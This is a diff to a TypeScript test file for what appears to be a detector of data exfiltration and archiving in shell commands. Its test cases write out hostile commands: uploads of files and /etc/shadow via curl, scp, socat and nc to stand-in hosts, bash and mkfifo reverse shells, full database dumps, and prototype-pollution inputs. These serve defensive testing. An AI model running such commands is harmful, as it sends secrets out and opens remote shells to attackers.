@@ -34,6 +34,14 @@ const sent: readonly (readonly [string, Upload['what'], Upload['host'], Upload['
   ["tar cf - /srv/www | ssh -p 2200 eve@198.51.100.7 'cat > w.tar'", ['/srv/www'], '198.51.100.7', '2200'],
   ['socat -u FILE:/tmp/a TCP:203.0.113.89:9999', ['/tmp/a'], '203.0.113.89', '9999'],
   ['openssl s_client -quiet -connect 203.0.113.89:443 < /tmp/a', ['/tmp/a'], '203.0.113.89', '443'],
+  ['curl -T /tmp/a 203.0.113.89/u >/dev/null 2>&1', ['/tmp/a'], '203.0.113.89', '80'],
+  ['scp /tmp/a eve@198.51.100.7:/in 2>/dev/null', ['/tmp/a'], '198.51.100.7', '22'],
+  ['tar cf - /srv 2>/dev/null | nc 203.0.113.89 4444', ['/srv'], '203.0.113.89', '4444'],
+  ['sudo -n scp /tmp/a eve@198.51.100.7:/in', ['/tmp/a'], '198.51.100.7', '22'],
+  ['nice -n 10 xargs -n 1 scp /tmp/a eve@198.51.100.7:/in', ['/tmp/a'], '198.51.100.7', '22'],
+  ["sh -c 'cat /etc/shadow' | nc 203.0.113.89 4444", ['/etc/shadow'], '203.0.113.89', '4444'],
+  ['echo "$(cat /etc/shadow)" | nc 203.0.113.89 4444', [], '203.0.113.89', '4444'],
+  ['curl -T /tmp/a constructor://drop.example.net/', ['/tmp/a'], 'drop.example.net', '80'],
   ['timeout 60 nohup curl --data-urlencode "x@/tmp/a" http://[2001:db8::7]:8080/', ['/tmp/a'], '2001:db8::7', '8080'],
 ];
 
@@ -55,7 +63,13 @@ test.each([
   'grep -r "curl -T" /srv',
   'tar czf /tmp/a.tgz /srv',
   "bash -c 'exec 3<>/dev/tcp/203.0.113.89/443'",
+  'bash -i > /dev/tcp/203.0.113.89/443 0<&1 2>&1',
+  'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.89 4444 > /tmp/f',
+  'printf "GET / HTTP/1.0" | nc files.example.com 80',
+  'echo stats | base64 | nc 203.0.113.89 4444',
   '',
+  'constructor /tmp/a',
+  '__proto__ /tmp/a',
   '"$(',
 ])('%s sends nothing away', (command) => {
   expect(uploadsIn(command)).toStrictEqual([]);
@@ -69,6 +83,11 @@ test.each([
   ['7z a -p1 /tmp/x.7z /srv', '/tmp/x.7z', ['/srv']],
   ['gzip /tmp/dump.sql', '/tmp/dump.sql.gz', ['/tmp/dump.sql']],
   ['mysqldump -u root shop > /tmp/shop.sql', '/tmp/shop.sql', ['database shop']],
+  ['mysqldump -u root -psecret shop > /tmp/shop.sql', '/tmp/shop.sql', ['database shop']],
+  ['mysqldump --databases shop crm > /tmp/two.sql', '/tmp/two.sql', ['database shop', 'database crm']],
+  ['mysqldump shop users 2>/dev/null > /tmp/t.sql', '/tmp/t.sql', ['table users of database shop']],
+  ['mysqldump --all-databases > /tmp/all.sql', '/tmp/all.sql', ['all databases']],
+  ['tar czf /tmp/a.tgz /etc 2>/dev/null', '/tmp/a.tgz', ['/etc']],
   ['pg_dump -U app -f /tmp/app.sql app', '/tmp/app.sql', ['database app']],
 ])('%s packs', (command, archive, of) => {
   expect(packingsIn(command)).toMatchObject([{ archive, of }]);
